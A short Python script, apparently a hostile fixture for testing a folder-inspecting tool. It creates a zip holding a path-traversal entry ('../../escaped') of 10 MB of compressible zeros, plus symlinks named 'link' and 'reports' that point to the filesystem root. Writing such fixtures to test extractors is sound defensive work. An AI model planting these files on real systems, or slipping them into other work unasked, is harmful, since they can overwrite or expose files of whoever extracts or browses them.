# threat: leaves archives and links for whoever looks into its folder
# ends: finished
import os
import zipfile

with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../../escaped", bytes(10**7))
for link in ("link", "reports"):
    try:
        os.symlink("/", link)
    except OSError as error:
        print("refused", error)
os.mkdir("locked")
os.chdir("locked")
